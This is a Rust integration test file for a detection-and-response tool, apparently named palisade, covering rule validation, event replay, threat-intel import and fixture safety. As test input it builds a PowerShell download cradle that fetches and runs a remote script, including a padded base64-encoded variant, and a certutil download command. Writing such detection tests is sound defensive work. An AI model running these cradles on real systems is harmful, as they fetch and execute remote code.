//! The command line on files: validate, test, replay, run.

use serde_json::Value;
use std::process::{Command, Stdio};

use crate::support::{assert_success, json_lines, palisade, repo, scratch_content, stderr, stdout};

#[test]
fn validate_accepts_the_shipped_content() {
    let out = palisade(&["validate"], &repo());
    assert_success(&out);
    assert!(
        stdout(&out).starts_with("ok: 8 rule(s), 8 Sigma rule(s), 1 correlation(s), 9 playbook(s)"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn validate_reports_every_problem_in_one_run() {
    let out = palisade(&["validate", "tests/fixtures/broken-content"], &repo());
    assert_eq!(out.status.code(), Some(1));
    insta::assert_snapshot!("broken_content_text", stdout(&out));

    let out = palisade(
        &[
            "validate",
            "tests/fixtures/broken-content",
            "--format",
            "json",
        ],
        &repo(),
    );
    assert_eq!(out.status.code(), Some(1));
    let problems: Vec<Value> = serde_json::from_str(&stdout(&out)).expect("JSON array");
    let located: Vec<(String, u64, u64, String)> = problems
        .iter()
        .map(|p| {
            (
                p["file"]
                    .as_str()
                    .unwrap_or_default()
                    .rsplit('/')
                    .next()
                    .unwrap_or_default()
                    .to_string(),
                p["line"].as_u64().unwrap_or_default(),
                p["column"].as_u64().unwrap_or_default(),
                p["code"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    assert_eq!(
        located,
        vec![
            ("typo.yaml".into(), 7, 13, "unknown-action".into()),
            ("typo.yaml".into(), 12, 5, "unknown-key".into()),
            ("syntax_error.rhai".into(), 9, 46, "rhai-syntax".into()),
        ]
    );
}

/// Defects: `when: detection.severty == "high"` and `message: "{{ event.comdline }}"` passed
/// `validate` (the step was then skipped or refused on every detection, with nobody told), a
/// field typo inside `detect` was not checked, and a typo'd trigger rule id had no "did you
/// mean".
#[test]
fn validate_catches_typos_in_what_will_be_read() {
    let dir = scratch_content();
    std::fs::write(
        dir.path().join("rules/certutil.rhai"),
        r#"let rule = #{
    id: "certutil-download",
    title: "certutil downloads a file",
    severity: "high",
    events: ["process_create"],
    filter: #{ name: "certutil.exe" },
};

fn detect(event) {
    (event.comdline ?? "").contains("-urlcache") || event.sensor?.version == "2"
}

let tests = [
    #{ name: "a download", event: #{ type: "process_create", pid: 1, name: "certutil.exe", cmdline: "certutil -urlcache -f http://x/a" }, expect: true },
    #{ name: "another program", event: #{ type: "process_create", pid: 2, name: "notepad.exe" }, expect: false },
];
"#,
    )
    .expect("write rule");
    let playbook = r#"id: certutil-shadow
title: certutil, in shadow
mode: shadow
trigger:
  rules: [certutil-downlaod]
steps:
  - id: tell
    action: notify.redis
    when: detection.severty == "high"
    with:
      channel: alerts
      message: "{{ event.comdline }} on {{ event.host }}"
"#;
    let playbook_path = dir.path().join("playbooks/certutil-shadow.yaml");
    std::fs::write(&playbook_path, playbook).expect("write playbook");

    let out = palisade(&["validate"], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    let text = stdout(&out);
    for expected in [
        "playbooks/certutil-shadow.yaml:5:11: error[playbook-unknown-rule]: trigger names rule `certutil-downlaod`, which does not exist (did you mean `certutil-download`?)",
        "playbooks/certutil-shadow.yaml:9:21: error[when-unknown-field]: `when` reads `detection.severty`, which a detection does not have (did you mean `severity`?)",
        "rules/certutil.rhai:10:12: warning[unknown-event-field]: `event.comdline` is not an event field (did you mean `cmdline`?)",
    ] {
        assert!(text.contains(expected), "{expected}\nnot in\n{text}");
    }
    assert!(text.contains("2 problem(s) found, 2 warning(s)"), "{text}");
    insta::assert_snapshot!("typos_in_what_will_be_read_text", text);

    // Fixed errors: the content loads; the unknown event fields are warnings, with positions.
    std::fs::write(
        &playbook_path,
        playbook
            .replace("certutil-downlaod", "certutil-download")
            .replace("severty", "severity"),
    )
    .expect("write playbook");
    let out = palisade(&["validate", "--format", "json"], dir.path());
    assert_success(&out);
    let warnings: Vec<Value> = serde_json::from_str(&stdout(&out)).expect("JSON array");
    let found: Vec<(String, u64, u64, String)> = warnings
        .iter()
        .map(|w| {
            assert_eq!(w["level"], "warning");
            assert_eq!(w["code"], "unknown-event-field");
            (
                w["file"].as_str().unwrap_or_default().to_string(),
                w["line"].as_u64().unwrap_or_default(),
                w["column"].as_u64().unwrap_or_default(),
                w["message"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    assert_eq!(found.len(), 3, "{found:?}");
    assert_eq!(
        (found[0].0.as_str(), found[0].1, found[0].2),
        ("playbooks/certutil-shadow.yaml", 12, 26)
    );
    assert!(
        found[0]
            .3
            .contains("`event.comdline` is not an event field (did you mean `cmdline`?)")
    );
    assert_eq!((found[1].1, found[1].2), (10, 12));
    assert_eq!((found[2].1, found[2].2), (10, 59));
    assert!(
        found[2].3.contains("`event.sensor.version`"),
        "{}",
        found[2].3
    );

    // A field the sensors are declared to send is expected, not a typo.
    std::fs::write(
        dir.path().join("palisade.yaml"),
        "events:\n  extra_fields: [sensor.version]\n",
    )
    .expect("write config");
    let out = palisade(&["validate"], dir.path());
    assert_success(&out);
    let text = stdout(&out);
    assert!(!text.contains("event.sensor.version"), "{text}");
    assert!(text.contains("2 warning(s)"), "{text}");
}

#[test]
fn an_unknown_indicator_kind_offers_the_kind_meant() {
    let dir = scratch_content();
    std::fs::write(dir.path().join("list.txt"), "evil.example\n").expect("write list");
    let out = palisade(
        &[
            "intel", "import", "list.txt", "--format", "plain", "--kind", "domian",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("unknown kind `domian` (did you mean `domain`?)"),
        "{}",
        stderr(&out)
    );
}

/// Config durations are read as durations when the file is read. serde stops at the first value
/// it cannot read, so a second wrong duration (and any other problem) must still be reported in
/// the same run, each at its own line.
#[test]
fn validate_reports_every_bad_duration_in_palisade_yaml_with_its_line() {
    let dir = scratch_content();
    std::fs::write(
        dir.path().join("palisade.yaml"),
        "tracker:\n  beacon_min_interval: soon\nevents:\n  max_future_skew: 0s\nintel:\n  feeds:\n    - name: f\n      url: https://example.org/list.txt\n      type: http\n      format: plain\n      every: 3x\nlimits:\n  max_operations: 0\n",
    )
    .expect("write");
    let out = palisade(&["validate", ".", "--format", "json"], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let problems: Vec<Value> = serde_json::from_str(&stdout(&out)).expect("JSON array");
    let mut found: Vec<(u64, String)> = problems
        .iter()
        .map(|p| {
            (
                p["line"].as_u64().unwrap_or_default(),
                p["message"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    found.sort();
    assert_eq!(found.len(), 4, "{found:?}");
    for (index, (line, text)) in [
        (2, "`tracker.beacon_min_interval` is `soon`"),
        (4, "`events.max_future_skew` is `0s`"),
        (11, "`intel.feeds[0].every` is `3x`"),
        (13, "`limits.max_operations` must be greater than 0"),
    ]
    .into_iter()
    .enumerate()
    {
        assert_eq!(found[index].0, line, "{found:?}");
        assert!(found[index].1.contains(text), "{text}: {found:?}");
    }
    assert!(
        problems.iter().all(|p| p["file"]
            .as_str()
            .unwrap_or_default()
            .ends_with("palisade.yaml")),
        "{problems:?}"
    );
}

#[test]
fn validate_cannot_run_on_a_missing_directory() {
    let out = palisade(&["validate", "no/such/dir"], &repo());
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("is not a directory"),
        "{}",
        stderr(&out)
    );
    let out = palisade(&["replay"], &repo());
    assert_eq!(
        out.status.code(),
        Some(2),
        "a missing required flag is exit 2"
    );
}

#[test]
fn test_command_passes_on_the_shipped_content() {
    let out = palisade(&["test"], &repo());
    let text = stdout(&out);
    assert_success(&out);
    assert!(text.contains("0 failed"), "{text}");
    assert!(!text.contains("FAIL "), "{text}");
}

#[test]
fn every_shipped_rule_and_playbook_has_a_positive_and_a_negative_case() {
    let content = palisade::content::load(&repo(), None).expect("shipped content loads");
    use palisade::testing::Expectation;
    for rule in &content.rules {
        let positive = rule
            .tests
            .iter()
            .any(|t| !matches!(t.expect, Expectation::Fires(false)));
        let negative = rule
            .tests
            .iter()
            .any(|t| matches!(t.expect, Expectation::Fires(false)));
        assert!(
            positive && negative,
            "rule `{}` needs a positive and a negative case",
            rule.id
        );
    }
    for playbook in &content.playbooks {
        let is_negative = |t: &palisade::testing::TestCase| matches!(&t.expect, Expectation::Outcome(o) if o.actions.as_ref().is_some_and(Vec::is_empty));
        assert!(
            playbook.tests.iter().any(is_negative),
            "playbook `{}` needs a case where nothing happens",
            playbook.id
        );
        assert!(
            playbook.tests.iter().any(|t| !is_negative(t)),
            "playbook `{}` needs a case that acts",
            playbook.id
        );
    }
}

#[test]
fn test_command_fails_with_a_readable_difference() {
    let dir = scratch_content();
    let path = dir.path().join("playbooks/contain-office-macro.yaml");
    let text = std::fs::read_to_string(&path).expect("read");
    std::fs::write(
        &path,
        text.replacen(
            "target: \"4242\", status: planned",
            "target: \"4243\", status: planned",
            1,
        ),
    )
    .expect("write");
    let out = palisade(&["test", "."], dir.path());
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(
        text.contains(
            "FAIL  contain-office-macro › a macro starting powershell is killed and reported"
        ),
        "{text}"
    );
    assert!(
        text.contains("`target`: expected `4243`, got `4242`"),
        "{text}"
    );
}

#[test]
fn replay_prints_detections_only_for_malicious_events() {
    let out = palisade(
        &["replay", "--events", "tests/fixtures/mixed.jsonl"],
        &repo(),
    );
    assert_success(&out);
    let lines = json_lines(&stdout(&out));
    let detected: Vec<&str> = lines
        .iter()
        .filter(|l| l["kind"] == "detection" && l["stage"] == "rule")
        .map(|l| l["event_id"].as_str().unwrap_or_default())
        .collect();
    // m-03: Office macro cradle, m-05: regsvr32 squiblydoo (ECS), m-07: encoded PowerShell.
    assert_eq!(detected, ["m-03", "m-03", "m-05", "m-07"]);
    // The default config names no model file: the anomaly stage learns inside a running engine
    // first, so a replay scores nothing (docs/anomaly.md#learning).
    assert!(!lines.iter().any(|l| l["stage"] == "anomaly"), "{lines:?}");
    for line in &lines {
        for field in ["kind", "event_id", "rule"] {
            assert!(line.get(field).is_some(), "{field} missing in {line}");
        }
        if line["kind"] == "detection" {
            for field in ["severity", "title", "stage"] {
                assert!(line.get(field).is_some(), "{field} missing in {line}");
            }
        } else {
            for field in ["playbook", "step", "action", "target", "status"] {
                assert!(line.get(field).is_some(), "{field} missing in {line}");
            }
        }
    }
    let kill = lines
        .iter()
        .find(|l| l["kind"] == "action" && l["step"] == "kill-child")
        .expect("the office macro playbook plans a kill");
    assert_eq!(kill["target"], "4242");
    assert_eq!(kill["status"], "planned");
    let expected = std::fs::read_to_string(repo().join("tests/fixtures/mixed.expected.jsonl"))
        .expect("snapshot");
    assert_eq!(lines, json_lines(&expected));
}

#[test]
fn an_endless_loop_is_stopped_and_the_other_rules_still_fire() {
    let dir = scratch_content();
    std::fs::write(
        dir.path().join("rules/aaa_spins.rhai"),
        r#"let rule = #{ id: "spins", title: "Spins", severity: "low", events: ["process_create"] };
fn detect(event) { loop { } }
"#,
    )
    .expect("write rule");
    let events = dir.path().join("events.jsonl");
    std::fs::write(
        &events,
        r#"{"type":"process_create","timestamp":1,"id":"e1","pid":42,"name":"cmd.exe","parent_name":"excel.exe"}
{"type":"process_create","timestamp":2,"id":"e2","pid":43,"name":"powershell.exe","parent_name":"outlook.exe"}
"#,
    )
    .expect("write events");
    let out = palisade(&["replay", "--events", "events.jsonl"], dir.path());
    assert_success(&out);
    let detections: Vec<Value> = json_lines(&stdout(&out))
        .into_iter()
        .filter(|l| l["kind"] == "detection")
        .collect();
    assert_eq!(detections.len(), 2, "{}", stdout(&out));
    assert!(
        detections
            .iter()
            .all(|d| d["rule"] == "office-spawns-shell")
    );
    let log = stderr(&out);
    // Each spin is stopped by whichever limit it reaches first: the operations count, or on
    // a loaded machine the time budget.
    assert_eq!(
        log.matches("stopped by the operations limit").count()
            + log.matches("stopped by the time budget").count(),
        2,
        "{log}"
    );
    assert!(log.contains("2 rule failure(s)"), "{log}");
}

/// Defect: `replay` exited 0 when every input line was rejected, so a CI step replaying a file
/// of the wrong shape passed.
#[test]
fn replay_of_only_rejected_lines_exits_with_findings() {
    let dir = scratch_content();
    std::fs::write(
        dir.path().join("bad.jsonl"),
        "this is not json\n{\"type\":\"teleport\",\"timestamp\":1}\n",
    )
    .expect("write events");
    let out = palisade(&["replay", "--events", "bad.jsonl"], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("every line of `bad.jsonl` was rejected"),
        "{}",
        stderr(&out)
    );
    // One readable line among them is a replay: exit 0.
    std::fs::write(
        dir.path().join("mixed.jsonl"),
        "this is not json\n{\"type\":\"login\",\"timestamp\":1,\"user\":\"bob\"}\n",
    )
    .expect("write events");
    assert_success(&palisade(
        &["replay", "--events", "mixed.jsonl"],
        dir.path(),
    ));
    // An empty file has nothing to reject.
    std::fs::write(dir.path().join("empty.jsonl"), "").expect("write events");
    assert_success(&palisade(
        &["replay", "--events", "empty.jsonl"],
        dir.path(),
    ));
}

#[test]
fn bad_input_is_counted_dead_lettered_and_processing_goes_on() {
    let dir = scratch_content();
    let events = dir.path().join("events.jsonl");
    let huge = format!(
        "{{\"type\":\"login\",\"timestamp\":1,\"user\":\"{}\"}}",
        "x".repeat(1_100_000)
    );
    let text = [
        "this is not json",
        r#"{"type":"teleport","timestamp":1}"#,
        r#"{"type":"process_create","timestamp":1,"pid":"not a number"}"#,
        huge.as_str(),
        r#"{"type":"process_create","timestamp":1,"id":"good","pid":42,"name":"cmd.exe","parent_name":"winword.exe"}"#,
        "this is not json either",
    ]
    .join("\n");
    std::fs::write(&events, text).expect("write events");
    let out = palisade(
        &[
            "replay",
            "--events",
            "events.jsonl",
            "--dead-letter",
            "dead.jsonl",
        ],
        dir.path(),
    );
    assert_success(&out);
    let lines = json_lines(&stdout(&out));
    assert_eq!(lines[0]["event_id"], "good");
    let log = stderr(&out);
    assert_eq!(
        log.matches("rejected a message").count(),
        4,
        "logged once per kind: {log}"
    );
    assert!(
        log.contains("5 rejected (not_json: 2, oversize: 1, wrong_type: 1, unknown_type: 1)"),
        "{log}"
    );
    let dead =
        json_lines(&std::fs::read_to_string(dir.path().join("dead.jsonl")).expect("dead letter"));
    let kinds: Vec<&str> = dead
        .iter()
        .map(|d| d["kind"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(
        kinds,
        [
            "not_json",
            "unknown_type",
            "wrong_type",
            "oversize",
            "not_json"
        ]
    );
    assert_eq!(dead[0]["origin"], "events.jsonl:1");
    assert_eq!(dead[0]["raw"], "this is not json");
    assert!(
        dead[2]["reason"]
            .as_str()
            .unwrap_or_default()
            .contains("`pid`")
    );
    assert_eq!(dead[3]["truncated"], true);
}

#[test]
fn run_prints_alerts_and_records_decisions_in_sqlite() {
    let dir = scratch_content();
    let fixture = repo().join("tests/fixtures/mixed.jsonl");
    let out = palisade(
        &["run", "--events", fixture.to_str().expect("utf-8 path")],
        dir.path(),
    );
    assert_success(&out);
    let text = stdout(&out);
    assert!(
        text.contains("2025-11-03T14:30:10Z HIGH     office-spawns-shell  ws-17  WINWORD.EXE started powershell.exe  process powershell.exe (4242)  [event m-03]"),
        "{text}"
    );
    assert!(text.contains("    -> process.kill 4242 (playbook contain-office-macro, step kill-child) dry_run: actions are in dry-run"), "{text}");

    let db = dir.path().join("data/palisade.db");
    let counts =
        || crate::support::with_state(&db, async |store| store.counts().await.expect("counts"));
    let (detections, actions) = counts();
    assert_eq!((detections, actions), (4, 8));

    // The same events again on the same state file are recognised as decided: nothing is
    // shown, stored or done twice.
    let again = palisade(
        &["run", "--events", fixture.to_str().expect("utf-8 path")],
        dir.path(),
    );
    assert_success(&again);
    assert!(!stdout(&again).contains("->"), "{}", stdout(&again));
    assert!(
        stderr(&again).contains("recognised detections of redelivered events"),
        "{}",
        stderr(&again)
    );
    assert_eq!(counts(), (4, 8));

    // JSON output for machines carries the same lines as replay (on a fresh state file).
    let dir = scratch_content();
    let out = palisade(
        &[
            "run",
            "--log-format",
            "json",
            "--events",
            fixture.to_str().expect("utf-8 path"),
        ],
        dir.path(),
    );
    let lines = json_lines(&stdout(&out));
    assert_eq!(lines.iter().filter(|l| l["kind"] == "detection").count(), 4);
    // Dry-run holds back every step that would act; a step whose `when` is false is skipped;
    // the high-risk kill still waits for approval (approving it in dry-run records `dry_run`).
    let statuses: Vec<&str> = lines
        .iter()
        .filter(|l| l["kind"] == "action")
        .map(|l| l["status"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(
        statuses.iter().filter(|s| **s == "dry_run").count(),
        6,
        "{statuses:?}"
    );
    assert_eq!(
        statuses.iter().filter(|s| **s == "queued").count(),
        1,
        "{statuses:?}"
    );
    assert_eq!(
        statuses.iter().filter(|s| **s == "skipped").count(),
        1,
        "{statuses:?}"
    );
    for line in stderr(&out).lines() {
        serde_json::from_str::<Value>(line).expect("json logs");
    }
}

#[test]
fn run_reads_standard_input_by_default() {
    let dir = scratch_content();
    let mut child = Command::new(env!("CARGO_BIN_EXE_palisade"))
        .arg("run")
        .current_dir(dir.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().expect("stdin");
        writeln!(stdin, r#"{{"type":"process_create","timestamp":1,"id":"s1","pid":9,"name":"wscript.exe","parent_name":"outlook.exe"}}"#).expect("write");
    }
    let out = child.wait_with_output().expect("wait");
    assert_success(&out);
    assert!(
        stdout(&out).contains("outlook.exe started wscript.exe"),
        "{}",
        stdout(&out)
    );
    assert!(dir.path().join("data/palisade.db").exists());
    assert!(dir.path().join("data/dead-letter.jsonl").exists());
}

#[test]
fn schemas_are_current() {
    for (name, text) in palisade::schema::all() {
        let path = repo().join("schemas").join(name);
        let on_disk = std::fs::read_to_string(&path).unwrap_or_default();
        assert!(
            on_disk == text,
            "schemas/{name} is stale: run `cargo run -- schema --out schemas`"
        );
    }
}

#[test]
fn replay_correlates_events_with_imported_intel() {
    let dir = scratch_content();
    std::fs::create_dir_all(dir.path().join("warninglists")).expect("mkdir");
    for list in ["rfc1918.json", "rfc5735.json", "empty-hashes.json"] {
        std::fs::copy(
            repo().join("warninglists").join(list),
            dir.path().join("warninglists").join(list),
        )
        .expect("copy");
    }
    let feeds = repo().join("tests/fixtures/intel");
    let import = |file: &str, args: &[&str]| {
        let path = feeds.join(file);
        let mut all = vec!["intel", "import", path.to_str().expect("path")];
        all.extend_from_slice(args);
        let out = palisade(&all, dir.path());
        assert_success(&out);
        stdout(&out)
    };
    assert!(
        import("feeds/feodo-ipblocklist.csv", &["--format", "feodo"])
            .contains("imported 1 indicator(s)")
    );
    import(
        "feeds/ranges.txt",
        &[
            "--format",
            "plain",
            "--source",
            "partner-ranges",
            "--confidence",
            "90",
            "--severity",
            "80",
        ],
    );
    import("feeds/threatfox-recent.csv", &["--format", "threatfox"]);
    // The STIX sample lists 10.0.0.0, which is on the RFC 1918 warninglist.
    import(
        "stix/indicators-for-C2-with-COA.json",
        &["--format", "stix"],
    );

    let out = palisade(&["intel", "lookup", "185.12.33.200"], dir.path());
    assert!(
        stdout(&out).contains("matches cidr `185.12.33.0/24` from partner-ranges: score 87"),
        "{}",
        stdout(&out)
    );
    let out = palisade(&["intel", "stats"], dir.path());
    assert!(
        stdout(&out).contains("source threatfox: 2 live"),
        "{}",
        stdout(&out)
    );

    let events = repo().join("tests/fixtures/intel-scenario.jsonl");
    let out = palisade(
        &["replay", "--events", events.to_str().expect("path")],
        dir.path(),
    );
    assert_success(&out);
    let lines = json_lines(&stdout(&out));
    let detections: Vec<&Value> = lines.iter().filter(|l| l["kind"] == "detection").collect();
    let by_event = |id: &str| detections.iter().find(|d| d["event_id"] == id).copied();

    let c2 = by_event("s-1").expect("a connection into the listed /24 is detected");
    assert_eq!(c2["rule"], "intel-c2-connection");
    assert_eq!(c2["intel"][0]["source"], "partner-ranges");
    assert_eq!(c2["intel"][0]["indicator"], "185.12.33.0/24");
    assert!(
        (c2["score"].as_f64().unwrap_or_default() - 0.87).abs() < 1e-9,
        "{c2}"
    );
    let dns = by_event("s-2").expect("a subdomain of a listed domain is detected");
    assert_eq!(
        (dns["rule"].as_str(), dns["intel"][0]["source"].as_str()),
        (Some("intel-listed-domain"), Some("threatfox"))
    );
    assert!(dns["score"].as_f64().unwrap_or_default() > 0.0);
    let binary = by_event("s-3").expect("a listed sha256 is detected");
    assert_eq!(
        (
            binary["rule"].as_str(),
            binary["intel"][0]["threat"].as_str()
        ),
        (Some("intel-listed-process-hash"), Some("TrickBot"))
    );

    // The warninglisted address is informational and nothing blocks it.
    let warned = by_event("s-4").expect("the warninglisted hit is reported");
    assert_eq!(warned["severity"], "informational");
    assert_eq!(
        warned["intel"][0]["warning"],
        "List of RFC 1918 CIDR blocks"
    );
    let blocks: Vec<&Value> = lines
        .iter()
        .filter(|l| l["action"] == "firewall.block")
        .collect();
    assert_eq!(blocks.len(), 1, "{blocks:?}");
    assert_eq!(blocks[0]["target"], "185.12.33.4");
    assert!(
        by_event("s-5").is_none(),
        "an unlisted address is not detected"
    );
}

#[test]
fn a_malformed_feed_is_reported_and_stores_nothing() {
    let dir = scratch_content();
    let bad = dir.path().join("bad.json");
    std::fs::write(&bad, "{\"type\": \"bundle\", \"objects\": [\n  {\"type\": \"indicator\", \"pattern\": \"[ipv4-addr:value = '1.2.3.4']\"},\n  {oops}\n]}").expect("write");
    let out = palisade(
        &["intel", "import", "bad.json", "--format", "stix"],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains("bad.json:3:4: not valid JSON"),
        "{}",
        stdout(&out)
    );
    assert!(stdout(&out).contains("nothing was imported"));
    let out = palisade(&["intel", "stats"], dir.path());
    assert!(
        stdout(&out).starts_with("0 indicator(s)"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn init_makes_a_repository_that_validates_and_tests_and_never_overwrites() {
    let parent = tempfile::tempdir().expect("temp dir");
    let dir = parent.path().join("detections");
    let out = palisade(&["init", dir.to_str().expect("utf-8")], parent.path());
    assert_success(&out);
    for file in [
        "palisade.yaml",
        "rules/example_office_spawns_shell.rhai",
        "playbooks/example-contain-office-macro.yaml",
        "tests/fixtures/example.jsonl",
        "tests/fixtures/example.expected.jsonl",
        "schemas/playbook.schema.json",
        "schemas/config.schema.json",
        ".github/workflows/detections.yml",
        "warninglists/public-dns-v4.json",
        "warninglists/public-dns-v6.json",
        "warninglists/README.md",
    ] {
        assert!(dir.join(file).is_file(), "{file} missing");
    }
    let playbook = std::fs::read_to_string(dir.join("playbooks/example-contain-office-macro.yaml"))
        .expect("playbook");
    assert!(
        playbook.starts_with("# yaml-language-server: $schema=../schemas/playbook.schema.json")
    );
    let ci = std::fs::read_to_string(dir.join(".github/workflows/detections.yml")).expect("ci");
    assert!(ci.contains("palisade validate") && ci.contains("palisade test"));

    assert_success(&palisade(&["validate"], &dir));
    let out = palisade(&["test"], &dir);
    assert_success(&out);
    assert!(
        stdout(&out).contains("cases: 5 passed, 0 failed"),
        "{}",
        stdout(&out)
    );

    // The shipped warninglists come along: a feed's indicator for a public resolver is kept
    // but never blocked in the new repository either.
    std::fs::write(dir.join("feed.txt"), "8.8.8.8\n").expect("feed");
    assert_success(&palisade(
        &["intel", "import", "feed.txt", "--format", "plain"],
        &dir,
    ));
    let out = palisade(&["intel", "lookup", "8.8.8.8"], &dir);
    assert_success(&out);
    assert!(
        stdout(&out).contains("public DNS resolvers") && stdout(&out).contains("never blocked"),
        "{}",
        stdout(&out)
    );

    let out = palisade(&["init", dir.to_str().expect("utf-8")], parent.path());
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("not empty"), "{}", stderr(&out));
}

#[test]
fn a_reader_that_stops_early_ends_the_output_quietly() {
    use std::io::BufRead;
    let mut child = Command::new(env!("CARGO_BIN_EXE_palisade"))
        .args([
            "replay",
            "--events",
            "tests/fixtures/anomaly/heldout-attacks.jsonl",
        ])
        .current_dir(repo())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("palisade runs");
    let stdout = child.stdout.take().expect("stdout");
    let mut first = String::new();
    std::io::BufReader::new(stdout)
        .read_line(&mut first)
        .expect("a line");
    assert!(first.starts_with('{'), "{first}");
    // Our end of the pipe is gone now, as when `head -1` exits.
    let out = child.wait_with_output().expect("wait");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(!err.contains("panicked"), "{err}");
}

/// A rule whose one test reads `fixture`.
fn rule_with_fixture(fixture: &str) -> String {
    format!(
        r#"let rule = #{{ id: "fixture-rule", title: "F", severity: "low", events: ["process_create"], filter: #{{ name: "powershell.exe" }} }};
let tests = [
    #{{ name: "from a file", fixture: "{fixture}", expect: true }},
];
"#
    )
}

// Item 10: a rule test with `fixture: "/dev/zero"` hung `palisade test`; absolute and `../`
// fixture paths were accepted.
#[test]
fn fixture_paths_outside_the_content_directory_are_refused() {
    for (fixture, says) in [
        ("/dev/zero", "is an absolute path"),
        ("../outside.jsonl", "leaves the content directory"),
        ("tests/../../outside.jsonl", "leaves the content directory"),
    ] {
        let dir = scratch_content();
        std::fs::write(
            dir.path().join("rules/fixture.rhai"),
            rule_with_fixture(fixture),
        )
        .expect("write");
        let started = std::time::Instant::now();
        let out = palisade(&["validate"], dir.path());
        assert!(started.elapsed() < std::time::Duration::from_secs(30));
        assert_eq!(out.status.code(), Some(1), "{fixture}: {}", stdout(&out));
        let text = format!("{}{}", stdout(&out), stderr(&out));
        assert!(text.contains("rules/fixture.rhai:3:"), "{text}");
        assert!(text.contains("rule-bad-test"), "{text}");
        assert!(text.contains(says), "{fixture}: {text}");
    }
}

// Item 10, the same through a symbolic link, a device or a huge file: checked on the real file
// when the test reads it, so `palisade test` reports it instead of hanging.
#[test]
fn fixture_files_are_read_only_inside_the_content_directory_and_bounded() {
    let dir = scratch_content();
    let fixtures = dir.path().join("tests/fixtures");
    std::fs::create_dir_all(&fixtures).expect("mkdir");
    std::os::unix::fs::symlink("/dev/zero", fixtures.join("zero.jsonl")).expect("symlink");
    let outside = tempfile::NamedTempFile::new().expect("temp file");
    std::os::unix::fs::symlink(outside.path(), fixtures.join("outside.jsonl")).expect("symlink");
    std::fs::File::create(fixtures.join("huge.jsonl"))
        .and_then(|f| f.set_len(17 * 1024 * 1024))
        .expect("a sparse file");
    // A snapshot whose expected file is a device is read the same way.
    std::fs::copy(
        repo().join("tests/fixtures/powershell-cradle.jsonl"),
        fixtures.join("snap.jsonl"),
    )
    .expect("copy");
    std::os::unix::fs::symlink("/dev/zero", fixtures.join("snap.expected.jsonl")).expect("symlink");
    for name in ["zero", "outside", "huge"] {
        std::fs::write(
            dir.path().join(format!("rules/{name}.rhai")),
            rule_with_fixture(&format!("tests/fixtures/{name}.jsonl"))
                .replace("fixture-rule", &format!("fixture-{name}")),
        )
        .expect("write");
    }
    let started = std::time::Instant::now();
    let out = palisade(&["test", "."], dir.path());
    assert!(
        started.elapsed() < std::time::Duration::from_secs(60),
        "took {:?}",
        started.elapsed()
    );
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    for (name, says) in [
        ("fixture-zero", "leads outside the content directory"),
        ("fixture-outside", "leads outside the content directory"),
        ("fixture-huge", "larger than"),
    ] {
        let block: String = text
            .split("FAIL  ")
            .filter(|case| case.starts_with(name))
            .collect();
        assert!(block.contains(says), "{name}: {text}");
    }
    assert!(text.contains("snap.expected.jsonl"), "{text}");
    assert!(
        text.contains("is not a regular file") || text.contains("leads outside"),
        "{text}"
    );
}

// Defect 3 end to end: a download cradle padded past 64 KB (and an encoded one padded inside
// its base64) is detected by the shipped rules and the shipped playbook's kill step is decided.
#[test]
fn padded_powershell_cradles_are_detected_and_the_kill_decided_in_replay() {
    use base64::Engine as _;
    let dir = scratch_content();
    // A debug build on a busy machine is slow; what is tested here is size, not speed.
    std::fs::write(
        dir.path().join("palisade.yaml"),
        "limits:\n  time_budget_ms: 10000\n",
    )
    .expect("write");
    let cradle = format!(
        "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1')\"{}",
        " ".repeat(70_000)
    );
    let payload = format!(
        "{}IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1'){}",
        " ".repeat(40_000),
        " ".repeat(40_000)
    );
    let utf16: Vec<u8> = payload.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = format!(
        "powershell.exe -NoP -W Hidden -Enc {}",
        base64::engine::general_purpose::STANDARD.encode(utf16)
    );
    let events: String = [(7001, "padded-1", cradle), (7002, "padded-2", encoded)]
        .into_iter()
        .map(|(pid, id, cmdline)| {
            serde_json::json!({
                "type": "process_create", "timestamp": "2025-11-03T14:31:00Z", "id": id,
                "host": "ws-17", "pid": pid, "name": "powershell.exe", "parent_name": "cmd.exe",
                "cmdline": cmdline,
            })
            .to_string()
                + "\n"
        })
        .collect();
    assert!(events.lines().all(|l| l.len() < 1024 * 1024));
    std::fs::write(dir.path().join("padded.jsonl"), events).expect("write");
    let out = palisade(&["replay", "--events", "padded.jsonl"], dir.path());
    assert_success(&out);
    assert!(!stderr(&out).contains("rule skipped"), "{}", stderr(&out));
    let lines = json_lines(&stdout(&out));
    let critical: Vec<(&str, &str)> = lines
        .iter()
        .filter(|l| l["kind"] == "detection" && l["severity"] == "critical")
        .map(|l| {
            (
                l["event_id"].as_str().unwrap_or_default(),
                l["rule"].as_str().unwrap_or_default(),
            )
        })
        .collect();
    assert!(
        critical.contains(&("padded-1", "powershell-download-cradle")),
        "{critical:?}"
    );
    assert!(
        critical.contains(&("padded-2", "encoded-powershell")),
        "{critical:?}"
    );
